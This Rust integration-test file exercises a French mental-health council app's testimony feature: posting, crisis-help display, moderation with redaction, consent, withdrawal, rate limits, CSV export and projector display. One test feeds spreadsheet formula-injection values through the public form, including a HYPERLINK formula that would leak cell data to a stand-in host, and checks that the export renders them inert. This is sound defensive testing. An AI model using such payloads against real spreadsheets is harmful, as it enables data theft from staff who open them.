//! Testimonies through the real server, as a browser without JavaScript sends them: posted
//! from the guided form (a refusal gives back what was typed), followed through the private
//! link (the crisis resources first when the text suggests distress), moderated by a
//! facilitator (redaction checked before anything is stored), shown on the wall only as its
//! author allowed, and gone everywhere once withdrawn.

use agora_app::domain::{CouncilSlug, Role};
use agora_app::store::entities::testimony;
use agora_server::demo;
use agora_tests::{TestApp, location};
use sea_orm::{EntityTrait, PaginatorTrait};

use agora_tests::unescape;

#[tokio::test]
async fn a_testimony_goes_from_the_form_through_moderation_to_the_wall_and_away()
-> anyhow::Result<()> {
    let app = TestApp::with_demo().await?;
    let slug = demo::slug();
    let wall = format!("/{slug}/temoignages");
    let (status, html) = app.get(&format!("{wall}/nouveau")).await?;
    assert_eq!(status, 200);
    assert!(html.contains("Ce qui s&#x27;est passé") || html.contains("Ce qui s'est passé"));
    assert!(html.contains("tel:3114"), "the help panel before posting");

    // Empty: refused beside the first part, the pseudonym given back, nothing stored.
    let response = app
        .post_multipart(
            "/api/post_testimony",
            None,
            &[("slug", slug), ("pseudonym", "Lou"), ("public", "on")],
            None,
        )
        .await?;
    let (back, html) = app.follow(response, "").await?;
    assert!(back.ends_with("/temoignages/nouveau"));
    let html = unescape(&html);
    assert!(
        html.contains("Écrivez au moins une des trois parties."),
        "{html}"
    );
    assert!(html.contains("value=\"Lou\""));
    assert_eq!(testimony::Entity::find().count(&app.db).await?, 0);

    // Posted, with words of distress: the private link, the help first.
    let happened =
        "Au CMP de Saint-Amand, le Dr Lefèvre m'a écouté. Certains soirs, j'ai envie de mourir.";
    let response = app
        .post_multipart(
            "/api/post_testimony",
            None,
            &[
                ("slug", slug),
                ("happened", happened),
                ("change", "Des rendez-vous plus tôt."),
                ("pseudonym", "Lou"),
                ("college", "usagers"),
                ("public", "on"),
            ],
            None,
        )
        .await?;
    // The browser goes to a token-free address and keeps the private token in a cookie.
    let page = location(&response);
    assert_eq!(page, format!("/{slug}/temoignages/suivi"));
    let author = agora_tests::cookie_set(&response, "agora_testimony")
        .ok_or_else(|| anyhow::anyhow!("the private link's cookie"))?;
    let token = author.trim_start_matches("agora_testimony=").to_owned();
    let link = format!("/{slug}/temoignages/suivi/{token}");
    let (_, html) = app.follow(response, "").await?;
    let html = unescape(&html);
    assert!(
        html.contains("Merci, votre témoignage est envoyé"),
        "{html}"
    );
    assert!(
        html.contains(&format!("{link}</code>")),
        "the whole link, to keep"
    );
    let help = html.find("Vous n'êtes pas seul·e").unwrap_or(usize::MAX);
    let title = html.find("<h1").unwrap_or(0);
    let heading = html[title..].split("</h1>").next().unwrap_or_default();
    assert_eq!(
        heading.replace("<!>", ""),
        "<h1>Votre témoignage",
        "the page's heading"
    );
    assert!(help < title, "the help comes first: {html}");
    assert!(html.contains("En attente de relecture"));
    // The link again later, in another browser: its token goes into the cookie and the
    // browser on to the token-free page; no thank-you (shown once), still the testimony.
    let opened = app.get_raw(&link, None).await?;
    assert_eq!(opened.status().as_u16(), 303);
    assert_eq!(location(&opened), page);
    assert_eq!(
        agora_tests::cookie_set(&opened, "agora_testimony").as_deref(),
        Some(author.as_str())
    );
    let (status, html) = app.get_with_cookie(&page, Some(&author)).await?;
    assert_eq!(status, 200);
    assert!(!html.contains("Merci, votre témoignage est envoyé"));
    assert!(unescape(&html).contains("Des rendez-vous plus tôt."));
    let wrong = format!("agora_testimony={}", "0".repeat(64));
    assert_eq!(app.get_with_cookie(&page, Some(&wrong)).await?.0, 404);
    assert_eq!(app.get(&page).await?.0, 404, "no cookie, no testimony");

    // Not on the wall before a moderator approves; the public sees no queue.
    let (_, html) = app.get(&wall).await?;
    assert!(html.contains("Pas encore de témoignage publié."));
    assert!(!html.contains("Lefèvre") && !html.contains("À relire"));

    // A facilitator: the queue, the distress flag; redaction gives the form back, stores nothing.
    let here = CouncilSlug::parse(slug)?;
    let (_, facilitator) = app.testimony_reader(&here, "Fanny Facilite").await?;
    let (_, html) = app.get_with_cookie(&wall, Some(&facilitator)).await?;
    let html = unescape(&html);
    assert!(
        html.contains("À relire") && html.contains("Lefèvre"),
        "{html}"
    );
    assert!(html.contains("font penser à une détresse aiguë"));
    assert!(
        html.contains("Pas encore de version facile à lire"),
        "a testimony without an easy summary is flagged before approval"
    );
    let id = testimony::Entity::find()
        .one(&app.db)
        .await?
        .map(|t| t.id.to_string())
        .ok_or_else(|| anyhow::anyhow!("the testimony"))?;
    let moderate = |decision: &'static str,
                    happened: String,
                    extra: Vec<(&'static str, &'static str)>| {
        let (app, facilitator, id) = (&app, facilitator.clone(), id.clone());
        async move {
            let mut fields = vec![
                ("slug", slug.to_owned()),
                ("id", id),
                ("decision", decision.to_owned()),
                ("happened", happened),
                ("change", "Des rendez-vous plus tôt.".to_owned()),
            ];
            fields.extend(extra.into_iter().map(|(k, v)| (k, v.to_owned())));
            let refs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let response = app
                .post_form("/api/moderate_testimony", Some(&facilitator), &refs)
                .await?;
            let (_, html) = app.follow(response, &facilitator).await?;
            anyhow::Ok(unescape(&html))
        }
    };
    let html = moderate(
        "redact",
        happened.to_owned(),
        vec![
            ("names", "Lefèvre, Saint-Amand"),
            (
                "summary",
                "Le médecin m'a écouté. J'ai parfois envie de mourir.",
            ),
        ],
    )
    .await?;
    assert!(
        html.contains("Kandel-Moles") && !html.contains("Pas encore de version facile à lire"),
        "the summary written is measured, and the flag gone: {html}"
    );
    let redacted = "Au CMP de […], le Dr […] m'a écouté. Certains soirs, j'ai envie de mourir.";
    assert!(html.contains(redacted), "{html}");
    assert!(html.contains("Rien n'est enregistré"));
    let stored = testimony::Entity::find().one(&app.db).await?;
    assert!(
        stored.is_some_and(|t| t.happened.contains("Lefèvre")),
        "redaction stores nothing"
    );

    // Approved as redacted, with a content warning: on the wall, folded; the original gone.
    let html = moderate(
        "approve",
        redacted.to_owned(),
        vec![("warning", "idées suicidaires")],
    )
    .await?;
    assert!(html.contains("La décision est enregistrée."), "{html}");
    let stored = testimony::Entity::find().all(&app.db).await?;
    assert!(stored.iter().all(|t| !t.happened.contains("Lefèvre")));
    let (_, html) = app.get(&wall).await?;
    let html = unescape(&html);
    assert!(html.contains(redacted), "{html}");
    assert!(
        html.contains("<details><summary>Avertissement :"),
        "folded: {html}"
    );
    assert!(
        html.contains("Lou · Usagers de la psychiatrie · "),
        "{html}"
    );
    assert!(!html.contains("Lefèvre"));

    // The author takes the public page back: gone from the wall at once.
    let response = app
        .post_form(
            "/api/testimony_author",
            Some(&author),
            &[("slug", slug), ("action", "consent"), ("projector", "on")],
        )
        .await?;
    let (_, html) = app.follow(response, &author).await?;
    assert!(unescape(&html).contains("Votre choix est enregistré."));
    let (_, html) = app.get(&wall).await?;
    assert!(!unescape(&html).contains(redacted));

    // Withdrawn: deleted, the link dead.
    let response = app
        .post_form(
            "/api/testimony_author",
            Some(&author),
            &[("slug", slug), ("action", "withdraw")],
        )
        .await?;
    assert!(
        agora_tests::set_cookies(&response)
            .iter()
            .any(|c| c.starts_with("agora_testimony=;") && c.contains("Max-Age=0")),
        "the browser forgets the token"
    );
    let (back, html) = app.follow(response, "").await?;
    assert_eq!(back, wall);
    assert!(unescape(&html).contains("Votre témoignage est retiré et effacé."));
    assert_eq!(testimony::Entity::find().count(&app.db).await?, 0);
    assert_eq!(app.get_with_cookie(&page, Some(&author)).await?.0, 404);
    Ok(())
}

#[tokio::test]
async fn only_moderators_decide_and_an_author_edits_only_when_asked() -> anyhow::Result<()> {
    let app = TestApp::with_demo().await?;
    let slug = demo::slug();
    let response = app
        .post_multipart(
            "/api/post_testimony",
            None,
            &[("slug", slug), ("helped", "Le groupe d'entraide.")],
            None,
        )
        .await?;
    let page = location(&response);
    let author = agora_tests::cookie_set(&response, "agora_testimony")
        .ok_or_else(|| anyhow::anyhow!("the private link's cookie"))?;
    let id = testimony::Entity::find()
        .one(&app.db)
        .await?
        .map(|t| t.id.to_string())
        .ok_or_else(|| anyhow::anyhow!("the testimony"))?;
    let decide = [
        ("slug", slug),
        ("id", id.as_str()),
        ("decision", "approve"),
        ("helped", "x"),
    ];
    // Nobody signed in, an observer: refused.
    let response = app
        .post_form("/api/moderate_testimony", None, &decide)
        .await?;
    assert!(response.status().is_client_error() || location(&response).contains("connexion"));
    let here = CouncilSlug::parse(slug)?;
    let (_, observer) = app
        .staff_member(&here, Role::Observer, "Olga Observe")
        .await?;
    let response = app
        .post_form("/api/moderate_testimony", Some(&observer), &decide)
        .await?;
    assert!(response.status().is_client_error(), "{}", response.status());
    let stored = testimony::Entity::find().one(&app.db).await?;
    assert!(stored.is_some_and(|t| t.review == "pending" && t.helped == "Le groupe d'entraide."));

    // The author cannot edit before being asked.
    let edit = [
        ("slug", slug),
        ("action", "edit"),
        ("helped", "Le groupe d'entraide du jeudi."),
    ];
    let response = app
        .post_form("/api/testimony_author", Some(&author), &edit)
        .await?;
    let (_, html) = app.follow(response, &author).await?;
    assert!(
        unescape(&html).contains("modifié que si l'équipe vous l'a demandé"),
        "{html}"
    );

    // Asked (a coordinator moderates too), the author edits; it waits again.
    let (_, coordinator) = app
        .staff_member(&here, Role::Coordinator, "Cora Coordonne")
        .await?;
    let response = app
        .post_form(
            "/api/moderate_testimony",
            Some(&coordinator),
            &[
                ("slug", slug),
                ("id", &id),
                ("decision", "ask"),
                ("helped", "Le groupe d'entraide."),
                ("note", "Pouvez-vous dire quel groupe ?"),
            ],
        )
        .await?;
    assert!(location(&response).ends_with(&format!("#temoignage-{id}")));
    let (_, html) = app.get_with_cookie(&page, Some(&author)).await?;
    let html = unescape(&html);
    assert!(
        html.contains("Pouvez-vous dire quel groupe ?")
            && html.contains("Modifier votre témoignage")
    );
    let response = app
        .post_form("/api/testimony_author", Some(&author), &edit)
        .await?;
    let (_, html) = app.follow(response, &author).await?;
    assert!(
        unescape(&html).contains("La nouvelle version est envoyée"),
        "{html}"
    );
    let stored = testimony::Entity::find().one(&app.db).await?;
    assert!(
        stored
            .is_some_and(|t| t.review == "pending" && t.helped == "Le groupe d'entraide du jeudi.")
    );
    Ok(())
}

#[tokio::test]
async fn a_participant_posting_too_often_is_refused_with_the_text_given_back() -> anyhow::Result<()>
{
    let app = TestApp::with_demo().await?;
    let slug = demo::slug();
    let post = |cookie: Option<String>, text: &'static str| {
        let app = &app;
        async move {
            app.post_multipart(
                "/api/post_testimony",
                cookie.as_deref(),
                &[("slug", slug), ("helped", text)],
                None,
            )
            .await
        }
    };
    let first = post(None, "Un.").await?;
    let participant = agora_tests::cookie_set(&first, "agora_participant")
        .ok_or_else(|| anyhow::anyhow!("a participant cookie"))?;
    for text in ["Deux.", "Trois."] {
        let response = post(Some(participant.clone()), text).await?;
        assert!(location(&response).ends_with("/temoignages/suivi"));
    }
    let response = post(Some(participant.clone()), "Quatre.").await?;
    let (back, html) = app.follow(response, &participant).await?;
    assert!(back.ends_with("/temoignages/nouveau"));
    let html = unescape(&html);
    assert!(
        html.contains("plusieurs témoignages depuis une heure"),
        "{html}"
    );
    assert!(html.contains("Quatre."), "the text given back");
    assert_eq!(testimony::Entity::find().count(&app.db).await?, 3);
    // Someone else is not held back.
    let response = post(None, "Cinq.").await?;
    assert!(location(&response).ends_with("/temoignages/suivi"));
    assert_eq!(testimony::Entity::find().count(&app.db).await?, 4);
    Ok(())
}

#[tokio::test]
async fn the_report_export_holds_only_what_authors_allow_and_nothing_withdrawn()
-> anyhow::Result<()> {
    use agora_app::domain::testimony::{Consent, Story};
    use agora_app::store::testimonies::{self, Decision, NewTestimony};
    let app = TestApp::with_demo().await?;
    let slug = demo::slug();
    let here = CouncilSlug::parse(slug)?;
    let council = app.demo_council_id().await?;
    let today = chrono::Utc::now().date_naive();
    let mut tokens = Vec::new();
    for (text, report) in [
        ("À citer; avec « guillemets ».", true),
        ("Pas pour le rapport.", false),
    ] {
        let (id, token) = testimonies::post(
            &app.db,
            NewTestimony {
                audio: None,
                council_id: council,
                finding_id: None,
                assembly_id: None,
                story: Story {
                    happened: text.into(),
                    ..Story::default()
                },
                pseudonym: String::new(),
                college: agora_app::domain::CollegeKey::parse("aidants"),
                consent: Consent {
                    report,
                    ..Consent::default()
                },
            },
            today,
            Default::default(),
        )
        .await?;
        let approve = Decision::Approve {
            story: Story {
                happened: text.into(),
                ..Story::default()
            },
            content_warning: String::new(),
            easy_summary: "Un aidant raconte.".into(),
        };
        testimonies::moderate(&app.db, council, id, approve, None).await?;
        tokens.push(token);
    }
    let csv = format!("/api/testimonies_report_csv?slug={slug}");
    let (status, _) = app.get(&csv).await?;
    assert!(status == 401 || status == 403, "{status}");
    let (_, observer) = app
        .staff_member(&here, Role::Observer, "Olga Observe")
        .await?;
    let (status, file) = app.get_with_cookie(&csv, Some(&observer)).await?;
    assert_eq!(status, 200);
    let file = file
        .strip_prefix('\u{feff}')
        .ok_or_else(|| anyhow::anyhow!("a byte-order mark"))?;
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(file.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()))
        .collect::<Result<_, _>>()?;
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0][0], "Anonyme");
    assert_eq!(rows[0][1], "Aidants et familles");
    assert_eq!(rows[0][3], "À citer; avec « guillemets ».");
    assert_eq!(rows[0][6], "Un aidant raconte.");
    // The wall shows staff the download link.
    let (_, html) = app
        .get_with_cookie(&format!("/{slug}/temoignages"), Some(&observer))
        .await?;
    assert!(html.contains(&csv), "the download link");

    // Withdrawn: gone from the next download.
    testimonies::withdraw(&app.db, &tokens[0]).await?;
    let (_, file) = app.get_with_cookie(&csv, Some(&observer)).await?;
    assert!(!file.contains("À citer"), "{file}");
    Ok(())
}

/// The attack: a participant posts, through the public form, a testimony whose pseudonym
/// and text are spreadsheet formulas, and waits for staff to open the report in LibreOffice
/// or Excel. Every such cell must come out as text (a leading apostrophe), never a formula.
#[tokio::test]
async fn a_formula_typed_by_a_participant_comes_out_of_the_report_inert() -> anyhow::Result<()> {
    use agora_app::domain::testimony::Story;
    use agora_app::store::testimonies::{self, Decision};
    use sea_orm::QueryOrder;
    let app = TestApp::with_demo().await?;
    let slug = demo::slug();
    let here = CouncilSlug::parse(slug)?;
    let council = app.demo_council_id().await?;
    let pseudonym = r#"=HYPERLINK("//x.example/?"&A1)"#;
    let story = Story {
        happened: "=1+1".into(),
        helped: "@SOMME(A1:A9)".into(),
        change: "-2+3".into(),
    };
    let response = app
        .post_multipart(
            "/api/post_testimony",
            None,
            &[
                ("slug", slug),
                ("pseudonym", pseudonym),
                ("happened", &story.happened),
                ("helped", &story.helped),
                ("change", &story.change),
                ("report", "on"),
            ],
            None,
        )
        .await?;
    assert!(location(&response).ends_with("/temoignages/suivi"));
    let posted = testimony::Entity::find()
        .order_by_desc(testimony::Column::Id)
        .one(&app.db)
        .await?
        .ok_or_else(|| anyhow::anyhow!("the testimony"))?;
    // A moderator reads it as harmless text and approves it.
    let approve = Decision::Approve {
        story: story.clone(),
        content_warning: String::new(),
        easy_summary: "+ une personne raconte".into(),
    };
    testimonies::moderate(&app.db, council, posted.id, approve, None).await?;
    let (_, observer) = app
        .staff_member(&here, Role::Observer, "Olga Observe")
        .await?;
    let (status, file) = app
        .get_with_cookie(
            &format!("/api/testimonies_report_csv?slug={slug}"),
            Some(&observer),
        )
        .await?;
    assert_eq!(status, 200);
    let file = file.trim_start_matches('\u{feff}');
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(file.as_bytes())
        .records()
        .map(|r| r.map(|r| r.iter().map(str::to_owned).collect()))
        .collect::<Result<_, _>>()?;
    let row = rows
        .iter()
        .find(|row| row[3].contains("1+1"))
        .ok_or_else(|| anyhow::anyhow!("the testimony's line in {rows:?}"))?;
    assert_eq!(row[0], format!("'{pseudonym}"));
    assert_eq!(row[3], "'=1+1");
    assert_eq!(row[4], "'@SOMME(A1:A9)");
    assert_eq!(row[5], "'-2+3");
    assert_eq!(row[6], "'+ une personne raconte");
    // No cell of the file, whatever its column, starts like a formula.
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    Ok(())
}

#[tokio::test]
async fn the_projector_shows_one_chosen_testimony_only_while_its_author_allows_it()
-> anyhow::Result<()> {
    use agora_app::domain::testimony::{Consent, Story};
    use agora_app::store::testimonies::{self, Decision, NewTestimony};
    let app = TestApp::with_demo().await?;
    let slug = demo::slug();
    let here = CouncilSlug::parse(slug)?;
    let council = app.demo_council_id().await?;
    let today = chrono::Utc::now().date_naive();
    let mut posted = Vec::new();
    for (text, projector) in [("Pour l'écran.", true), ("Pas pour l'écran.", false)] {
        let (id, token) = testimonies::post(
            &app.db,
            NewTestimony {
                audio: None,
                council_id: council,
                finding_id: None,
                assembly_id: None,
                story: Story {
                    happened: text.into(),
                    ..Story::default()
                },
                pseudonym: "Sam".into(),
                college: None,
                consent: Consent {
                    projector,
                    ..Consent::default()
                },
            },
            today,
            Default::default(),
        )
        .await?;
        let approve = Decision::Approve {
            story: Story {
                happened: text.into(),
                ..Story::default()
            },
            content_warning: String::new(),
            easy_summary: String::new(),
        };
        testimonies::moderate(&app.db, council, id, approve, None).await?;
        posted.push((id.to_string(), token));
    }
    let screen = format!("/{slug}/temoignages/ecran");
    let (status, html) = app.get(&screen).await?;
    assert_eq!(status, 200);
    assert!(
        html.contains("Pas de témoignage à l&#x27;écran")
            || html.contains("Pas de témoignage à l'écran")
    );
    assert!(
        html.contains(&format!("/api/testimony_screen_body?slug={slug}")),
        "follows the choice in place (an island)"
    );
    // What the island fetches: the same body, drawn again.
    let body = format!("/api/testimony_screen_body?slug={slug}");
    let fetch_body = || async {
        let (status, json) = app.get(&body).await?;
        assert_eq!(status, 200);
        anyhow::Ok(serde_json::from_str::<String>(&json)?.replace("&#x27;", "'"))
    };
    assert!(fetch_body().await?.contains("Pas de témoignage à l'écran"));
    assert!(
        !html.contains("http-equiv=\"refresh\""),
        "no timed refresh (WCAG 2.2.1)"
    );

    let (_, facilitator) = app.testimony_reader(&here, "Fanny Facilite").await?;
    let (_, html) = app
        .get_with_cookie(&format!("/{slug}/temoignages"), Some(&facilitator))
        .await?;
    let html = unescape(&html);
    assert!(
        html.contains("Pour l'écran") && !html.contains("Pas pour l'écran"),
        "only what may go on screen: {html}"
    );
    let show = |id: String| {
        let (app, facilitator) = (&app, facilitator.clone());
        async move {
            let response = app
                .post_form(
                    "/api/show_testimony",
                    Some(&facilitator),
                    &[("slug", slug), ("id", &id)],
                )
                .await?;
            let (_, html) = app.follow(response, &facilitator).await?;
            anyhow::Ok(unescape(&html))
        }
    };
    let html = show(posted[1].0.clone()).await?;
    assert!(html.contains("ne peut pas être montré à l'écran"), "{html}");
    let html = show(posted[0].0.clone()).await?;
    assert!(html.contains("L'écran est mis à jour."), "{html}");
    let (_, html) = app.get(&screen).await?;
    assert!(unescape(&html).contains("Pour l'écran."));
    assert!(fetch_body().await?.contains("Pour l'écran."));

    // The author takes the projector back: the screen is empty at its next reading.
    let response = app
        .post_form(
            "/api/testimony_author",
            Some(&format!("agora_testimony={}", posted[0].1)),
            &[("slug", slug), ("action", "consent")],
        )
        .await?;
    assert!(location(&response).ends_with("/temoignages/suivi"));
    let (_, html) = app.get(&screen).await?;
    assert!(!unescape(&html).contains("Pour l'écran."));
    assert!(!fetch_body().await?.contains("Pour l'écran."));
    // An observer may not choose.
    let (_, observer) = app
        .staff_member(&here, Role::Observer, "Olga Observe")
        .await?;
    let response = app
        .post_form(
            "/api/show_testimony",
            Some(&observer),
            &[("slug", slug), ("id", "")],
        )
        .await?;
    assert!(response.status().is_client_error());
    Ok(())
}

#[tokio::test]
async fn a_findings_page_shows_the_published_testimonies_that_speak_to_it_and_no_others()
-> anyhow::Result<()> {
    use agora_app::domain::{CouncilSlug, Role};
    let app = TestApp::with_demo().await?;
    let slug = demo::slug();
    let here = CouncilSlug::parse(slug)?;
    let (_, coordinator) = app
        .staff_member(&here, Role::Coordinator, "Anne Martin")
        .await?;
    let finding = agora_app::store::findings_of_council(&app.db, &here).await?[0]
        .id
        .to_string();
    // Three testimonies about the finding: on the wall; projector only; never approved.
    let mut ids = Vec::new();
    for (text, public) in [
        ("Au CMP on m'a écouté.", true),
        ("Pour l'écran seulement.", false),
        ("Encore en attente.", true),
    ] {
        let mut fields = vec![
            ("slug", slug),
            ("helped", text),
            ("finding", finding.as_str()),
        ];
        fields.push(if public {
            ("public", "on")
        } else {
            ("projector", "on")
        });
        app.post_multipart("/api/post_testimony", None, &fields, None)
            .await?;
        let stored = testimony::Entity::find().all(&app.db).await?;
        let id = stored
            .iter()
            .find(|t| t.helped == text)
            .map(|t| t.id.to_string())
            .ok_or_else(|| anyhow::anyhow!("the testimony {text}"))?;
        ids.push((id, text));
    }
    for (id, text) in &ids[..2] {
        app.post_form(
            "/api/moderate_testimony",
            Some(&coordinator),
            &[
                ("slug", slug),
                ("id", id),
                ("decision", "approve"),
                ("helped", text),
            ],
        )
        .await?;
    }
    let (_, html) = app.get(&format!("/{slug}/constats/{finding}")).await?;
    let html = unescape(&html);
    assert!(html.contains("Ce qu'en disent les personnes"), "{html}");
    assert!(html.contains("Au CMP on m'a écouté."));
    assert!(html.contains("Un témoignage publié parle de ce constat."));
    assert!(
        !html.contains("Pour l'écran seulement."),
        "not allowed on the public"
    );
    assert!(!html.contains("Encore en attente."), "not approved");
    // Another finding shows none.
    let other = agora_app::store::findings_of_council(&app.db, &here).await?[1].id;
    let (_, html) = app.get(&format!("/{slug}/constats/{other}")).await?;
    assert!(!unescape(&html).contains("Ce qu'en disent les personnes"));
    Ok(())
}
